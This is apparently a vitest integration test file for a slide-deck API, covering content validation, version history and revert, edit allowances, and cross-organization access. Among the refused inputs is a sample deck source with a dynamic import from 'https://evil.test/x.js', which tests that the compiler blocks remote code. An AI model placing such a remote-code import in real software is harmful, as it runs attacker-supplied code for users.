import { randomUUID } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { defaultTokensCss } from "@/lib/source/theme-tokens";
import { allowances } from "@/lib/db/schema/usage";
import type { Database } from "@/lib/db/client";
import { call, createUser, type TestUser } from "../helpers/api";
import { dispatch } from "../helpers/app-router";
import { setUpTestDatabase } from "../helpers/database";
import { createDeck, deckSource, setContent } from "../helpers/decks";

let database: Database;
let author: TestUser;

beforeAll(async () => {
  database = await setUpTestDatabase();
  author = await createUser();
});

describe("PUT /decks/{id}/content", () => {
  it("compiles the module and appends version 1, 2, … with outline, tokens and prompt", async () => {
    const deck = await createDeck(author);
    const first = await setContent(author, deck.id, { source: deckSource(["Intro", "Plan"]), prompt: "first draft" });
    expect(first.status).toBe(200);
    expect(first.body).toEqual({ id: expect.any(String), version: 1 });

    const detail = await call("GET", `/decks/${deck.id}`, { key: author.key });
    expect(detail.body.versionCount).toBe(1);
    expect(detail.body.latestVersion).toMatchObject({
      version: 1,
      format: "deck-tsx",
      source: deckSource(["Intro", "Plan"]),
      tokensCss: defaultTokensCss,
      outline: ["Intro", "Plan"],
      html: null,
    });
    expect(detail.body.latestVersion.compiledJs).toMatch(/from "@deckhand\/player"/);
    expect(Date.parse(detail.body.updatedAt)).toBeGreaterThan(Date.parse(deck.updatedAt as string));

    const second = await setContent(author, deck.id, { source: deckSource(["Only"]) });
    expect(second.body.version).toBe(2);
  });

  it("keeps the latest tokens when none are sent, and replaces them when sent", async () => {
    const deck = await createDeck(author);
    const tokens = '@import url("https://fonts.example/inter.css");\n:root { --color-primary: #0a7; }';
    await setContent(author, deck.id, { tokensCss: tokens });
    await setContent(author, deck.id, { source: deckSource(["Two"]) });
    const v2 = await call("GET", `/decks/${deck.id}/versions/2`, { key: author.key });
    expect(v2.body.tokensCss).toBe(tokens);
    await setContent(author, deck.id, { tokensCss: ":root { --color-primary: #f60; }" });
    const v3 = await call("GET", `/decks/${deck.id}/versions/3`, { key: author.key });
    expect(v3.body.tokensCss).toBe(":root { --color-primary: #f60; }");
  });

  it.each([
    ["a syntax error", deckSource(["A"]).replace("</Deck>", "</Dek>")],
    ["an import outside the vocabulary", `import React from "react";\n${deckSource()}`],
    ["an unknown component", deckSource(["A"]).replace("Deck, Slide, Title", "Deck, Slide, Title, Marquee")],
    ["no default export", deckSource().replace("export default function", "function")],
    ["a dynamic import", deckSource(["A"], 'const later = () => import("https://evil.test/x.js");')],
  ])("refuses %s with 422 compile_failed and saves nothing", async (_, source) => {
    const deck = await createDeck(author);
    await setContent(author, deck.id);
    const res = await setContent(author, deck.id, { source });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe("compile_failed");
    expect(res.body.error.message.length).toBeGreaterThan(10);
    const detail = await call("GET", `/decks/${deck.id}`, { key: author.key });
    expect(detail.body.versionCount).toBe(1);
  });

  it.each([
    ["a rule other than :root", "body { color: red; }"],
    ["a normal property in :root", ":root { color: red; }"],
    ["unparseable CSS", ":root { --a: 1"],
  ])("refuses tokensCss with %s", async (_, tokensCss) => {
    const deck = await createDeck(author);
    const res = await setContent(author, deck.id, { tokensCss });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe("compile_failed");
    expect((await call("GET", `/decks/${deck.id}/versions`, { key: author.key })).body).toEqual([]);
  });

  it.each([
    ["an empty source", { source: "" }, /source/],
    ["a missing source", { prompt: "hi" }, /source/],
    ["a non-string source", { source: 12 }, /source/],
    ["a 2001-character prompt", { source: deckSource(), prompt: "p".repeat(2001) }, /prompt/],
    ["a source over 1 MB", { source: deckSource(["A"], `// ${"x".repeat(1024 * 1024)}`) }, /1 MB/],
    ["tokensCss over 64 KB", { source: deckSource(), tokensCss: `:root { --a: ${"1".repeat(65 * 1024)}; }` }, /64 KB/],
    ["an unknown field", { source: deckSource(), html: "<p>hi</p>" }, /unknown field/],
  ])("refuses %s with 422 invalid_request", async (_, body, message) => {
    const deck = await createDeck(author);
    const res = await call("PUT", `/decks/${deck.id}/content`, { key: author.key, body });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe("invalid_request");
    expect(res.body.error.message).toMatch(message);
  });

  it("accepts a 2000-character prompt", async () => {
    const deck = await createDeck(author);
    expect((await setContent(author, deck.id, { prompt: "p".repeat(2000) })).status).toBe(200);
  });

  it("refuses a body over 2 MB before parsing it", async () => {
    const deck = await createDeck(author);
    const res = await call("PUT", `/decks/${deck.id}/content`, {
      key: author.key,
      rawBody: "x".repeat(2 * 1024 * 1024 + 1),
    });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe("payload_too_large");
  });

  // A refusal is answered while the client may still be sending: the rest of the body is read and dropped, not
  // cancelled (a server that stops reading makes the client see a connection reset instead of the answer;
  // tests/e2e/http-refusals.test.ts shows it on a real server). Both for a body found too large while
  // streaming and for one never read (no key).
  it("reads and drops the rest of a refused body instead of cancelling it", async () => {
    const deck = await createDeck(author);
    for (const [key, status, code] of [
      [author.key, 422, "payload_too_large"],
      [null, 401, "unauthorized"],
    ] as const) {
      const piece = new Uint8Array(256 * 1024).fill(0x78);
      const stream = { pieces: 0, ended: false, cancelled: false };
      const body = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (stream.pieces === 12) {
            stream.ended = true;
            controller.close();
            return;
          }
          stream.pieces++;
          controller.enqueue(piece);
        },
        cancel() {
          stream.cancelled = true;
        },
      });
      const headers = { "content-type": "application/json", ...(key ? { authorization: `Bearer ${key}` } : {}) };
      const request = new Request(`http://localhost/api/v1/decks/${deck.id}/content`, {
        method: "PUT",
        headers,
        body,
        duplex: "half",
      } as RequestInit);
      const res = await dispatch(request);
      expect(res.status).toBe(status);
      expect((await res.json()).error.code).toBe(code);
      await expect.poll(() => stream.ended, { message: `${status}: the body is read to its end` }).toBe(true);
      expect(stream.cancelled).toBe(false);
    }
  });

  it("answers 404 for a deck that does not exist", async () => {
    expect((await setContent(author, randomUUID())).status).toBe(404);
  });
});

describe("versions", () => {
  it("lists summaries newest first and returns one version in full", async () => {
    const deck = await createDeck(author);
    await setContent(author, deck.id, { prompt: "one" });
    await setContent(author, deck.id, { source: deckSource(["B"]) });
    const list = await call("GET", `/decks/${deck.id}/versions`, { key: author.key });
    expect(list.status).toBe(200);
    expect(list.body).toEqual([
      { id: expect.any(String), version: 2, prompt: null, createdAt: expect.any(String) },
      { id: expect.any(String), version: 1, prompt: "one", createdAt: expect.any(String) },
    ]);
    const one = await call("GET", `/decks/${deck.id}/versions/1`, { key: author.key });
    expect(one.body).toEqual({
      id: list.body[1].id,
      deckId: deck.id,
      version: 1,
      prompt: "one",
      createdAt: list.body[1].createdAt,
      format: "deck-tsx",
      source: deckSource(),
      tokensCss: defaultTokensCss,
      compiledJs: expect.any(String),
      outline: ["Intro"],
      html: null,
    });
  });

  it.each(["0", "-1", "abc", "1.5", "1e2", "99999999999"])("refuses version %s with 422", async (version) => {
    const deck = await createDeck(author);
    const res = await call("GET", `/decks/${deck.id}/versions/${version}`, { key: author.key });
    expect(res.status).toBe(422);
    const revert = await call("POST", `/decks/${deck.id}/versions/${version}/revert`, { key: author.key });
    expect(revert.status).toBe(422);
  });

  it("answers 404 for a version the deck does not have", async () => {
    const deck = await createDeck(author);
    await setContent(author, deck.id);
    const res = await call("GET", `/decks/${deck.id}/versions/2`, { key: author.key });
    expect(res.status).toBe(404);
    expect(res.body.error.message).toMatch(/newest is 1/);
    expect((await call("POST", `/decks/${deck.id}/versions/7/revert`, { key: author.key })).status).toBe(404);
  });

  it("reverts by copying an old version forward and keeps the history", async () => {
    const deck = await createDeck(author);
    await setContent(author, deck.id, { source: deckSource(["Original"]), tokensCss: ":root { --a: 1; }" });
    await setContent(author, deck.id, { source: deckSource(["Changed"]), tokensCss: ":root { --a: 2; }" });
    const res = await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: author.key });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ id: expect.any(String), version: 3 });

    const [v1, v2, v3] = await Promise.all(
      [1, 2, 3].map(async (n) => (await call("GET", `/decks/${deck.id}/versions/${n}`, { key: author.key })).body),
    );
    for (const field of ["format", "source", "tokensCss", "compiledJs", "outline", "html"]) {
      expect(v3[field]).toEqual(v1[field]);
    }
    expect(v2.outline).toEqual(["Changed"]);
    expect(v3.prompt).toBe("Reverted to version 1");
    const detail = await call("GET", `/decks/${deck.id}`, { key: author.key });
    expect(detail.body.latestVersion.outline).toEqual(["Original"]);
    expect(detail.body.versionCount).toBe(3);
  });
});

describe("the version-edit allowance", () => {
  it("answers 402 with featureId version_edits once the month's edits are used, writing nothing", async () => {
    const user = await createUser();
    await database.db
      .insert(allowances)
      .values({ organizationId: user.organizationId, featureId: "version_edits", monthlyLimit: 3 });
    const deck = await createDeck(user);
    for (let i = 0; i < 2; i++) expect((await setContent(user, deck.id)).status).toBe(200);
    // A refused module consumes nothing.
    expect((await setContent(user, deck.id, { source: "export default 1 +" })).status).toBe(422);
    expect((await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: user.key })).status).toBe(200);

    const refused = await setContent(user, deck.id);
    expect(refused.status).toBe(402);
    expect(refused.body.error).toMatchObject({ code: "allowance_exhausted", featureId: "version_edits" });
    expect(refused.body.error.message).toMatch(/3 version edits/);
    const revert = await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: user.key });
    expect(revert.status).toBe(402);
    expect((await call("GET", `/decks/${deck.id}`, { key: user.key })).body.versionCount).toBe(3);
  });

  it("takes its default from VERSION_EDIT_ALLOWANCE", async () => {
    const user = await createUser();
    const deck = await createDeck(user);
    process.env.VERSION_EDIT_ALLOWANCE = "1";
    try {
      expect((await setContent(user, deck.id)).status).toBe(200);
      expect((await setContent(user, deck.id)).status).toBe(402);
    } finally {
      delete process.env.VERSION_EDIT_ALLOWANCE;
    }
    expect((await setContent(user, deck.id)).status).toBe(200);
  });
});

describe("another organization's public deck", () => {
  // Another organization reads a public deck as the viewer shows it (get_deck: its newest version); the
  // history — older versions, the version list and the prompts — stays inside the owning organization.
  it("answers get_deck, but 404 not_found for the version list, every version and revert", async () => {
    const org = `org-${randomUUID()}`;
    const owner = await createUser({ org });
    const colleague = await createUser({ org });
    const outsider = await createUser();
    const deck = await createDeck(owner);
    await setContent(owner, deck.id, { source: deckSource(["Secret draft"]), prompt: "internal: launch plan" });
    await setContent(owner, deck.id, { source: deckSource(["Published"]), prompt: "final cut for the client" });
    await call("PATCH", `/decks/${deck.id}`, { key: owner.key, body: { visibility: "public" } });

    const detail = await call("GET", `/decks/${deck.id}`, { key: outsider.key });
    expect(detail.status).toBe(200);
    expect(detail.body.versionCount).toBe(2);
    expect(detail.body.latestVersion).toMatchObject({ version: 2, format: "deck-tsx", outline: ["Published"] });
    expect(detail.body.latestVersion.compiledJs).toEqual(expect.any(String));
    expect(Object.keys(detail.body.latestVersion).sort()).toEqual(
      ["compiledJs", "format", "html", "outline", "source", "tokensCss", "version"].sort(),
    );
    const shown = JSON.stringify(detail.body);
    for (const hidden of ["internal: launch plan", "final cut for the client", "Secret draft"]) {
      expect(shown).not.toContain(hidden);
    }

    const reads = [`/decks/${deck.id}/versions`, ...[1, 2, 3].map((v) => `/decks/${deck.id}/versions/${v}`)];
    for (const path of reads) {
      const res = await call("GET", path, { key: outsider.key });
      expect(res.status, path).toBe(404);
      expect(res.body.error.code, path).toBe("not_found");
      expect(JSON.stringify(res.body)).not.toMatch(/newest is|launch plan|final cut/);
    }
    for (const v of [1, 2, 3]) {
      const res = await call("POST", `/decks/${deck.id}/versions/${v}/revert`, { key: outsider.key });
      expect(res.status).toBe(404);
      expect(res.body.error.code).toBe("not_found");
    }
    expect((await call("GET", `/decks/${deck.id}`, { key: owner.key })).body.versionCount).toBe(2);

    // Inside the organization nothing changes: a colleague reads the history, the owner still reverts.
    const list = await call("GET", `/decks/${deck.id}/versions`, { key: colleague.key });
    expect(list.body.map((v: { prompt: string }) => v.prompt)).toEqual([
      "final cut for the client",
      "internal: launch plan",
    ]);
    expect((await call("GET", `/decks/${deck.id}/versions/1`, { key: colleague.key })).status).toBe(200);
    expect((await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: colleague.key })).status).toBe(403);
    expect((await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: owner.key })).status).toBe(200);
  });

  it("answers a private deck of another organization exactly as a deck that does not exist", async () => {
    const owner = await createUser();
    const outsider = await createUser();
    const deck = await createDeck(owner);
    await setContent(owner, deck.id);
    for (const [method, path] of [
      ["GET", "/versions"],
      ["GET", "/versions/1"],
      ["POST", "/versions/1/revert"],
    ] as const) {
      const hidden = await call(method, `/decks/${deck.id}${path}`, { key: outsider.key });
      const missing = await call(method, `/decks/${randomUUID()}${path}`, { key: outsider.key });
      expect(hidden.status).toBe(404);
      expect(hidden.body).toEqual(missing.body);
    }
  });
});
